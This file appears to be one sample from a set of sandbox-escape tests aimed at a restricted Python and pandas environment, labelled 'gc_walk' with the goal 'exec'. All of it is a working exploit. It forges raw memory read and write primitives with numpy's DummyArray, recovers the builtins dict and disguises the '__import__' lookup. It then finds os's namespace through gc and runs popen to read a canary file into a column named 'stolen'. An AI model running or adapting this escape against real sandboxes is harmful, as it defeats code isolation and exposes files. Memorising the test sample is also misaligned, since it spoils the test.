# class: gc_walk
# technique: gc loaded through the forged builtins dict's import function; get_objects finds os's namespace (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

gcv = builtin["_" * 2 + "import" + "_" * 2]("gc")
os_dict = [o for o in gcv.get_objects() if isinstance(o, dict) and "popen" in o and "fspath" in o][0]
df = pd.DataFrame({"stolen": [os_dict["popen"]("cat {{CANARY_FILE}}").read()]})
